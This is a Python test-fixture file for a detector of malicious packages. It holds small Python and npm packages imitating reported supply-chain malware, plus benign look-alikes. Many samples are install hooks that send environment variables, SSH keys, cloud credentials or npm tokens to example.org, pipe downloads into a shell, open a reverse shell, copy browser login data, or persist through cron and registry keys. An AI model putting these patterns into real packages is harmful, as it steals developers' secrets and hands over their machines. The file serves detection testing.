"""Small packages that do what hostile ones do, in the shapes of public reports, with payloads that do nothing.

Each is a name and its files. Those of `TUNED` were looked at while the rule was made. Those of `LATER` were written before and counted
once, when 8 of 12 were found; then they were looked at, too. Those of `HELD` were written after that and only counted.
"""

from __future__ import annotations

Package = dict[str, str]

SETUP = 'from setuptools import setup\nsetup(name="shop")\n'

TUNED: dict[str, Package] = {
    "decoded text is executed": {
        "setup.py": """
import base64
exec(base64.b64decode(b"cHJpbnQoMSk="))
from setuptools import setup
setup(name="shop")
""",
    },
    "packed, decoded and loaded through names made up": {
        "setup.py": """
from setuptools import setup
_ = lambda text: __import__("zlib").decompress(__import__("base64").b64decode(text[::-1]))
exec((_)(b"=8wAAAAA"))
setup(name="shop")
""",
    },
    "a command class sends the environment": {
        "setup.py": """
import json, os, urllib.request
from setuptools import setup
from setuptools.command.install import install
class After(install):
    def run(self):
        install.run(self)
        body = json.dumps({"all": dict(os.environ)}).encode()
        urllib.request.urlopen(urllib.request.Request("https://example.org/in", data=body))
setup(name="shop", cmdclass={"install": After})
""",
    },
    "keys are read and sent": {
        "setup.py": SETUP,
        "shop/__init__.py": """
import os, requests
def _grab():
    found = {}
    for name in ("id_rsa", "config"):
        path = os.path.join(os.path.expanduser("~"), ".ssh", name)
        if os.path.exists(path):
            with open(path) as file:
                found[name] = file.read()
    requests.post("https://example.org/in", json=found, timeout=5)
_grab()
""",
    },
    "a program is downloaded to the folder for temporary files and started": {
        "setup.py": """
import os, subprocess, tempfile, requests
from setuptools import setup
target = os.path.join(tempfile.gettempdir(), "helper.exe")
with open(target, "wb") as file:
    file.write(requests.get("https://example.org/helper.exe", timeout=5).content)
subprocess.Popen(target, shell=True)
setup(name="shop")
""",
    },
    "a hidden PowerShell command": {
        "setup.py": """
import subprocess
from setuptools import setup
subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand "cABpAG4AZwAgAGUAeABhAG0AcABsAGUA"', shell=True)
setup(name="shop")
""",
    },
    "an install script pipes a download into a shell": {
        "package.json": '{"name": "shop", "scripts": {"preinstall": "curl -s https://example.org/i.sh | bash"}}',
        "index.js": "module.exports = {};\n",
    },
    "an install script starts a file that evaluates a download": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "node ./lib/after.js"}}',
        "lib/after.js": """
const https = require("https");
https.get("https://example.org/next", (reply) => {
  const parts = [];
  reply.on("data", (part) => parts.push(part));
  reply.on("end", () => new Function(Buffer.concat(parts).toString())());
});
""",
    },
    "an install script sends tokens": {
        "package.json": '{"name": "shop", "scripts": {"install": "node collect"}}',
        "collect.js": """
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch { return ""; } };
const body = JSON.stringify({ rc: read(".npmrc"), env: process.env });
const ask = https.request({ hostname: "example.org", method: "POST", path: "/in" }, () => {});
ask.write(body);
ask.end();
""",
    },
    "a program comes back at the next start": {
        "setup.py": """
import os, shutil, sys
from setuptools import setup
startup = os.path.join(os.environ["APPDATA"], "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")
shutil.copy(sys.argv[0], os.path.join(startup, "update.pyw"))
setup(name="shop")
""",
    },
}

LATER: dict[str, Package] = {
    "hex text is executed by a name put together": {
        "setup.py": SETUP,
        "shop/__init__.py": """
import builtins
code = bytes.fromhex("7072696e74283129").decode()
getattr(builtins, "ex" + "ec")(compile(code, "<string>", "exec"))
""",
    },
    "characters are put together one by one": {
        "setup.py": """
from setuptools import setup
eval("".join(chr(n ^ 7) for n in [119, 117, 110, 105, 115, 47, 54, 46]))
setup(name="shop")
""",
    },
    "an interpreter is started with code that asks another machine": {
        "setup.py": """
import subprocess, sys
from setuptools import setup
subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://example.org/p').read())"])
setup(name="shop")
""",
    },
    "who works where goes out when it is installed": {
        "package.json": '{"name": "shop", "version": "99.0.0", "scripts": {"preinstall": "node index.js"}}',
        "index.js": """
const os = require("os");
const https = require("https");
const data = JSON.stringify({ p: __dirname, h: os.hostname(), u: os.userInfo().username });
const req = https.request({ hostname: "example.org", port: 443, path: "/", method: "POST" }, (res) => { res.on("data", () => {}); });
req.write(data);
req.end();
""",
    },
    "a profile of a browser is packed and sent": {
        "setup.py": SETUP,
        "shop/__init__.py": "from . import core\n",
        "shop/core.py": """
import os
import shutil
import threading
import requests

class Collector:
    def __init__(self):
        self.local = os.getenv("LOCALAPPDATA")

    def run(self):
        source = self.local + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"
        copy = shutil.copy2(source, "copy.db")
        with open(copy, "rb") as file:
            requests.post("https://example.org/hook", files={"file": file}, timeout=9)

threading.Thread(target=Collector().run).start()
""",
    },
    "a shell is opened to another machine": {
        "setup.py": """
import os, socket, subprocess
from setuptools import setup
from setuptools.command.develop import develop
class Develop(develop):
    def run(self):
        line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        line.connect(("example.org", 4444))
        for number in (0, 1, 2):
            os.dup2(line.fileno(), number)
        subprocess.call(["/bin/sh", "-i"])
setup(name="shop", cmdclass={"develop": Develop})
""",
    },
    "text taken from an array of strings is evaluated": {
        "package.json": '{"name": "shop", "main": "lib/index.js"}',
        "lib/index.js": """
const parts = ["Y29uc29s", "ZS5sb2co", "MSk="];
const decode = (text) => Buffer.from(text, "base64").toString("utf8");
(function (run) { run(decode(parts.join(""))); })(eval);
module.exports = {};
""",
    },
    "a download is decoded by the shell": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "npm run setup", "setup": "echo aWQ= | base64 -d | sh"}}',
    },
    "a job is added to the table of cron": {
        "setup.py": """
import os
from setuptools import setup
def _stay():
    os.system('(crontab -l; echo "@reboot python3 ~/.cache/u.py") | crontab -')
_stay()
setup(name="shop")
""",
    },
    "a file for the start of Python": {
        "setup.py": """
import site, os
from setuptools import setup
with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "a") as file:
    file.write("import shop_agent")
setup(name="shop")
""",
    },
    "a detached process that reads a token": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "node scripts/post.js || true"}}',
        "scripts/post.js": """
const { spawn } = require("child_process");
const axios = require("axios");
axios.post("https://example.org/t", { token: process.env.NPM_TOKEN });
spawn(process.execPath, ["agent.js"], { detached: true, stdio: "ignore" }).unref();
""",
    },
    "a second stage is written and imported": {
        "setup.py": """
import os, tempfile, urllib.request
from setuptools import setup
stage = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
stage.write(urllib.request.urlopen("https://example.org/stage").read())
stage.close()
os.system("python " + stage.name)
setup(name="shop")
""",
    },
}

HELD: dict[str, Package] = {
    "a token of the cloud is asked for and sent": {
        "setup.py": """
import os, http.client
from setuptools import setup
from setuptools.command.egg_info import egg_info
class Info(egg_info):
    def run(self):
        with open(os.path.expanduser("~/.aws/credentials")) as file:
            text = file.read()
        line = http.client.HTTPSConnection("example.org")
        line.request("POST", "/k", text)
        egg_info.run(self)
setup(name="shop", cmdclass={"egg_info": Info})
""",
    },
    "numbers are turned into code": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "node build.js"}}',
        "build.js": """
const codes = [99, 111, 110, 115, 111, 108, 101];
let text = "";
for (const code of codes) text += String.fromCharCode(code - 1);
setTimeout(() => { new Function(text)(); }, 1000);
""",
    },
    "a script is fetched by a command and evaluated": {
        "setup.py": """
import subprocess
from setuptools import setup
code = subprocess.check_output("curl -fsSL https://example.org/p.py", shell=True)
exec(code)
setup(name="shop")
""",
    },
    "a program hidden in the package is unpacked and started": {
        "setup.py": SETUP,
        "shop/__init__.py": """
import base64, os, subprocess, tempfile
from .data import BLOB
where = os.path.join(tempfile.mkdtemp(), "svc")
with open(where, "wb") as out:
    out.write(base64.b85decode(BLOB))
os.chmod(where, 0o755)
subprocess.Popen([where], start_new_session=True)
""",
        "shop/data.py": "BLOB = b'VPaz'\n",
    },
    "all variables go out as a name to resolve": {
        "package.json": '{"name": "shop", "scripts": {"preinstall": "node pre"}}',
        "pre.js": """
const dns = require("dns");
for (const [key, value] of Object.entries(process.env)) {
  dns.lookup(Buffer.from(key + value).toString("hex") + ".example.org", () => {});
}
""",
    },
    "a key of the registry starts it again": {
        "setup.py": """
import winreg, sys
from setuptools import setup
with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE) as key:
    winreg.SetValueEx(key, "update", 0, winreg.REG_SZ, sys.executable)
setup(name="shop")
""",
    },
    "a script of another name does the work": {
        "package.json": '{"name": "shop", "scripts": {"install": "sh scripts/setup.sh", "test": "node t"}}',
        "index.js": "module.exports = 1;\n",
    },
    "every file of a folder is read and posted": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "node lib/x.js"}}',
        "lib/x.js": """
const fs = require("fs"), os = require("os"), path = require("path");
const folder = path.join(os.homedir(), ".ssh");
for (const name of fs.readdirSync(folder)) {
  fetch("https://example.org/f", { method: "POST", body: fs.readFileSync(path.join(folder, name)) });
}
""",
    },
}

HONEST: dict[str, Package] = {
    "the version is read by running its file": {
        "setup.py": """
from setuptools import setup
space = {}
with open("shop/version.py") as file:
    exec(compile(file.read(), "version.py", "exec"), space)
setup(name="shop", version=space["__version__"])
""",
        "shop/__init__.py": "from .version import __version__\n",
        "shop/version.py": '__version__ = "1.0"\n',
    },
    "a compiler is asked and started": {
        "setup.py": """
import os, subprocess
from setuptools import Extension, setup
flags = subprocess.check_output(["pkg-config", "--cflags", "libshop"]).decode().split()
compiler = os.environ.get("CC", "cc")
subprocess.check_call([compiler, "-o", "probe", "probe.c", *flags])
setup(name="shop", ext_modules=[Extension("shop._c", ["c.c"], extra_compile_args=flags)])
""",
    },
    "a binary is fetched and held against a hash": {
        "package.json": '{"name": "shop", "scripts": {"postinstall": "node install.js"}}',
        "install.js": """
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https"), crypto = require("crypto");
const { execFileSync } = require("child_process");
const target = path.join(os.tmpdir(), "shop-tool");
https.get("https://example.org/tool", (reply) => {
  const parts = [];
  reply.on("data", (part) => parts.push(part));
  reply.on("end", () => {
    const data = Buffer.concat(parts);
    if (crypto.createHash("sha256").update(data).digest("hex") !== require("./sums.json")[process.platform]) throw new Error("sum");
    fs.writeFileSync(target, data);
    execFileSync(target, ["--version"]);
  });
});
""",
    },
    "a client reads a token when it is called": {
        "setup.py": SETUP,
        "shop/__init__.py": """
import os, requests
class Client:
    def __init__(self, token=None):
        self.token = token or os.environ.get("SHOP_TOKEN")
    def items(self):
        return requests.get("https://example.org/items", headers={"Authorization": self.token}, timeout=5).json()
""",
    },
    "native code is built": {
        "package.json": '{"name": "shop", "scripts": {"install": "node-gyp-build", "prepare": "npm run build && husky install", "build": "tsc -p ."}}',
        "index.js": 'module.exports = require("./build/Release/shop.node");\n',
    },
    "a program asks when it is started by itself": {
        "setup.py": SETUP,
        "shop/__init__.py": "",
        "shop/update.py": """
import requests
def main():
    exec(requests.get("https://example.org/update", timeout=5).text)
if __name__ == "__main__":
    main()
""",
    },
}
